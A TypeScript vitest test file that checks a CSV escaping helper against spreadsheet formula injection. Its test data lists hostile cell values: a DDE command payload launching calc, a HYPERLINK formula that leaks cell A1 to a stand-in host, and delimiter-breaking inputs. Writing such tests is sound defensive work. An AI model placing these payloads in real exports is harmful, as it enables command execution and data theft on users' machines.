import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { fromSafeCell, safeLine } from '#server/batches/safeCell.ts'

const evil = [
  '=cmd|"/c calc"!A1',
  '+1+cmd|x',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  '=HYPERLINK("http://elsewhere.example?"&A1)',
]
/** What would end the cell, or the line, and begin a formula in the next. */
const breaking = ['a;=1', 'a,=1', 'a\n=1', 'a\r\n=1', 'a";=1;"', '"=1', "';=1", ' =1', 'a\t=1']

/** As a spreadsheet of ours reads the line. */
const cellsOf = (line: string): string[] => parse(line, { delimiter: ';', relax_quotes: false })[0] ?? []

describe('a cell that somebody wrote', () => {
  it.each(evil)('begins no formula: %j', { meta: { spec: ['asvs.1.3.3'] } }, (text) => {
    const [cell = '', ...others] = cellsOf(safeLine([text]))
    expect(others).toEqual([])
    expect(cell).toBe(`'${text}`)
    expect(fromSafeCell(cell)).toBe(text)
  })

  it.each(breaking)('stays one cell: %j', { meta: { spec: ['asvs.1.2.1'] } }, (text) => {
    expect(cellsOf(safeLine(['x', text, 'y']))).toEqual(['x', text, 'y'])
  })
})
